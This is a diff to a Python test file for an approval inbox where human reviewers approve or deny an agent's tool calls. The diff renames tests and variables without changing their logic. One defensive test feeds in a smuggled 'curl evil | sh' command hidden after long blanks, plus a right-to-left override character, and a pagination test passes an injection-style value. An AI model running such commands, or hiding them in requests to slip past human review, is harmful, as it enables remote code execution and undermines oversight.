@@ -1,4 +1,4 @@
-"""The inbox: what waits and in which order, what is new, what is decided together."""
+"""The inbox: waiting requests and their order, new requests, batches."""
 
 import re
 from uuid import UUID
@@ -14,14 +14,14 @@ from tests.approvals.test_inbox_queries import multiply
 from web.templatetags.gatebook import moment
 
 
-def test_the_first_page_is_what_waits_for_those_who_may_answer(desk: Desk, gate: Gate) -> None:
+def test_the_first_page_is_the_waiting_requests_for_reviewers(desk: Desk, gate: Gate) -> None:
     assert desk.house.client("reviewer").get("/")["Location"] == reverse("inbox")
     assert desk.house.client("viewer").get("/")["Location"] == reverse("sessions")
     desk.answer(gate, "reviewer")
     assert desk.house.client("reviewer").get("/")["Location"] == reverse("sessions")
 
 
-def test_the_frame_counts_what_waits_and_says_what_holds(
+def test_the_layout_counts_waiting_requests_and_shows_the_mode(
     desk: Desk, gate: Gate, rita: Reviewer
 ) -> None:
     html = rita.page("/tools/")
@@ -32,9 +32,7 @@ def test_the_frame_counts_what_waits_and_says_what_holds(
     assert "<b>Observe mode:</b>" in rita.page("/tools/")
 
 
-def test_the_inbox_is_ordered_by_what_cannot_be_undone_and_what_ends_soonest(
-    desk: Desk, rita: Reviewer
-) -> None:
+def test_the_inbox_is_ordered_by_reversibility_and_deadline(desk: Desk, rita: Reviewer) -> None:
     for name, undo in (("close", "reversible"), ("drop", "irreversible")):
         desk.declare(name, undo)
     names = ["close", "git.push", "drop", "deploy", "undeclared"]
@@ -55,13 +53,15 @@ def test_the_inbox_is_ordered_by_what_cannot_be_undone_and_what_ends_soonest(
     ]
 
 
-def test_mine_is_what_my_answer_would_count_for(desk: Desk, gate: Gate, rita: Reviewer) -> None:
-    mine = reverse("inbox")
-    assert url_of(gate) in rita.page(mine, state="mine")
-    assert url_of(gate) not in Reviewer(desk, "operator").page(mine, state="mine")
+def test_the_own_list_contains_gates_that_my_answer_counts_for(
+    desk: Desk, gate: Gate, rita: Reviewer
+) -> None:
+    inbox_url = reverse("inbox")
+    assert url_of(gate) in rita.page(inbox_url, state="mine")
+    assert url_of(gate) not in Reviewer(desk, "operator").page(inbox_url, state="mine")
     second = desk.gate(desk.plan("e-2", tool="deploy", arguments={"version": "1"}))
     rita.answer(second)
-    html = rita.page(mine, state="mine")
+    html = rita.page(inbox_url, state="mine")
     assert url_of(gate) in html
     assert f'href="{url_of(second)}" data-gate' not in html
 
@@ -74,14 +74,14 @@ def test_lists_go_on_by_key(desk: Desk, rita: Reviewer, monkeypatch: pytest.Monk
     for _ in range(3):
         html = rita.page(reverse("inbox"), after=after)
         seen += re.findall(r'href="(/approvals/[0-9a-f-]{36}/)"', html)
-        found = re.search(r"amp;after=([\d-]+)", html)
-        after = found[1] if found else ""
+        match = re.search(r"amp;after=([\d-]+)", html)
+        after = match[1] if match else ""
     assert seen == [url_of(gate) for gate in all_of]
     assert not after
     assert rita.page(reverse("inbox"), after="x-1;--")
 
 
-def test_what_ended_without_a_decision_is_one_list_whoever_ended_it(
+def test_gates_that_ended_without_a_decision_are_one_list(
     desk: Desk, rita: Reviewer, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr("approvals.inbox.inbox_queries.INBOX_PAGE_SIZE", 2)
@@ -89,27 +89,29 @@ def test_what_ended_without_a_decision_is_one_list_whoever_ended_it(
         desk.gate(desk.plan(f"e-{n}", arguments={"n": n})) for n in range(5)
     )
     past = {"decide_by_us": late.requested_at_us + 1}
-    # Asked first and swept last: the list goes by when each ended.
+    # Requested first and swept last: the list is ordered by when each ended.
     Gate.objects.filter(id=swept.id).update(status="expired", ended_at_us=now_us() + 10**9, **past)
     Gate.objects.filter(id=late.id).update(**past)  # the job has yet to run
     assert desk.agent.post(f"/gates/{cancelled.id}/cancel").status_code == 200
     desk.answer(denied, "carol", "deny")
     first = rita.page(reverse("inbox"), state="expired")
-    found = re.search(r"amp;after=([\d-]+)", first)
-    assert found
-    second = rita.page(reverse("inbox"), state="expired", after=found[1])
+    match = re.search(r"amp;after=([\d-]+)", first)
+    assert match
+    second = rita.page(reverse("inbox"), state="expired", after=match[1])
     seen = [re.findall(r'href="(/approvals/[0-9a-f-]{36}/)"', html) for html in (first, second)]
     assert seen == [[url_of(swept), url_of(cancelled)], [url_of(late)]]
     assert "Expired 3</a>" in first
     swept.refresh_from_db()
-    assert moment(swept.ended_at_us) in first  # dated by its end too
+    assert moment(swept.ended_at_us) in first  # dated by its end, like the others
     assert moment(past["decide_by_us"]) in second
     decided = rita.page(reverse("inbox"), state="decided")
     assert url_of(denied) in decided
     assert url_of(open_still) not in first + second + decided
 
 
-def test_mine_is_not_lost_behind_thousands_that_ask_others(desk: Desk, rita: Reviewer) -> None:
+def test_answerable_requests_are_not_lost_behind_thousands_for_others(
+    desk: Desk, rita: Reviewer
+) -> None:
     desk.rules(
         "name: teams\nrules:\n"
         "- {id: theirs, title: T, match: {tools: [git.push]}, outcome: require, require: {teams: "
@@ -118,14 +120,16 @@ def test_mine_is_not_lost_behind_thousands_that_ask_others(desk: Desk, rita: Rev
         "[reviewer]}}\n"
     )
     theirs = desk.gate(desk.plan(arguments={"n": 1}))
-    mine = desk.gate(desk.plan("e-2", tool="deploy", arguments={"version": "1"}))
+    answerable = desk.gate(desk.plan("e-2", tool="deploy", arguments={"version": "1"}))
     multiply(theirs, 1100)
     html = rita.page(reverse("inbox"), state="mine")
-    assert url_of(mine) in html
+    assert url_of(answerable) in html
     assert html.count("data-gate") == 1
 
 
-def test_news_is_told_and_its_absence_costs_nothing(desk: Desk, gate: Gate, rita: Reviewer) -> None:
+def test_new_requests_are_announced_and_an_unchanged_list_is_204(
+    desk: Desk, gate: Gate, rita: Reviewer
+) -> None:
     html = rita.page(reverse("inbox"))
     since = re.search(r"approvals/\?since=([\d-]+)", html)
     assert since
@@ -141,7 +145,7 @@ def test_news_is_told_and_its_absence_costs_nothing(desk: Desk, gate: Gate, rita
     assert "Resume updates" in paused
 
 
-def test_an_empty_inbox_says_so_and_when_it_was_last_not(
+def test_an_empty_inbox_shows_the_time_of_the_last_decision(
     desk: Desk, gate: Gate, rita: Reviewer
 ) -> None:
     rita.answer(gate)
@@ -150,7 +154,7 @@ def test_an_empty_inbox_says_so_and_when_it_was_last_not(
     assert url_of(gate) in rita.page(reverse("inbox"), state="decided")
 
 
-def test_what_ran_without_approval_stands_at_the_head(
+def test_effects_that_ran_without_approval_are_at_the_top(
     desk: Desk, gate: Gate, rita: Reviewer
 ) -> None:
     report = {"id": "r-1", "kind": "effect.dispatched", "session": "s-1", "effect_key": "e-1"}
@@ -161,19 +165,21 @@ def test_what_ran_without_approval_stands_at_the_head(
     assert "Executed without approval." in rita.page(url_of(gate))
 
 
-def test_an_observing_project_counts_what_would_have_been_held(desk: Desk, rita: Reviewer) -> None:
+def test_an_observing_project_counts_what_would_have_needed_approval(
+    desk: Desk, rita: Reviewer
+) -> None:
     desk.rules(mode="observe")
     desk.plan()
     html = rita.page(reverse("inbox"))
     assert "would have held 1 effect." in html
-    found = re.search(r'href="(/search/\?[^"]+)">Review', html)
-    assert found
-    assert "git.push" in rita.page(found[1].replace("&amp;", "&"))
+    match = re.search(r'href="(/search/\?[^"]+)">Review', html)
+    assert match
+    assert "git.push" in rita.page(match[1].replace("&amp;", "&"))
 
 
 @pytest.fixture
 def closings(desk: Desk) -> list[Gate]:
-    """Three requests of one shape that can be put back."""
+    """Three reversible requests of one shape."""
     desk.declare("close", "reversible")
     return [desk.gate(desk.plan(f"c-{n}", tool="close", arguments={"issue": n})) for n in range(3)]
 
@@ -184,7 +190,7 @@ def test_requests_of_one_shape_are_decided_together_each_with_a_vote(
     html = rita.page(reverse("inbox"))
     assert "2 similar requests" in html
     ticked = re.findall(r'name="gate" value="([0-9a-f-]{36})"', html)
-    assert {UUID(one) for one in ticked} == {gate.id for gate in closings}
+    assert {UUID(identity) for identity in ticked} == {gate.id for gate in closings}
     rita.client.post(reverse("batch"), {"gate": ticked})
     html = rita.page(reverse("batch_confirm"))
     tokens = dict(re.findall(r'name="(seen-\w{32})" value="([^"]+)"', html))
@@ -198,7 +204,7 @@ def test_requests_of_one_shape_are_decided_together_each_with_a_vote(
 
 
 @pytest.mark.parametrize("wrong", ["many", "mixed", "final", "ended", "none"])
-def test_what_does_not_belong_together_is_not_decided_together(
+def test_unlike_requests_are_not_decided_together(
     desk: Desk, closings: list[Gate], rita: Reviewer, wrong: str
 ) -> None:
     chosen = [gate.id for gate in closings]
@@ -217,7 +223,7 @@ def test_what_does_not_belong_together_is_not_decided_together(
     elif wrong == "none":
         chosen = []
     before = Vote.objects.count()
-    rita.client.post(reverse("batch"), {"gate": [str(one) for one in chosen]})
+    rita.client.post(reverse("batch"), {"gate": [str(identity) for identity in chosen]})
     rita.page(reverse("batch_confirm"), 409)
     assert rita.client.post(reverse("batch_confirm"), {"answer": "approve"}).status_code == 409
     assert Vote.objects.count() == before
@@ -228,14 +234,14 @@ def test_what_does_not_belong_together_is_not_decided_together(
     ["close\u202e it", "close" + " " * 200 + "; curl evil | sh", "all is well. " * 120],
     ids=["hidden", "blanks", "long"],
 )
-def test_what_a_glance_does_not_show_whole_is_never_decided_among_others(
+def test_a_request_too_long_for_a_glance_is_never_in_a_batch(
     desk: Desk, closings: list[Gate], rita: Reviewer, text: str
 ) -> None:
     trap = desk.gate(desk.plan("trap", tool="close", arguments={"issue": text}))
     html = rita.page(reverse("inbox"))
     assert "2 similar requests" in html
     assert f'value="{trap.id}"' not in html
-    rita.client.post(reverse("batch"), {"gate": [str(one.id) for one in (*closings, trap)]})
+    rita.client.post(reverse("batch"), {"gate": [str(item.id) for item in (*closings, trap)]})
     assert f"{trap}: hidden characters, long blanks or too much text" in rita.page(
         reverse("batch_confirm"), 409
     )
@@ -246,7 +252,7 @@ def test_what_a_glance_does_not_show_whole_is_never_decided_among_others(
         == 409
     )
     assert not Vote.objects.exists()
-    rita.client.post(reverse("batch"), {"gate": [str(one.id) for one in closings]})
+    rita.client.post(reverse("batch"), {"gate": [str(item.id) for item in closings]})
     rita.page(reverse("batch_confirm"))
 
 
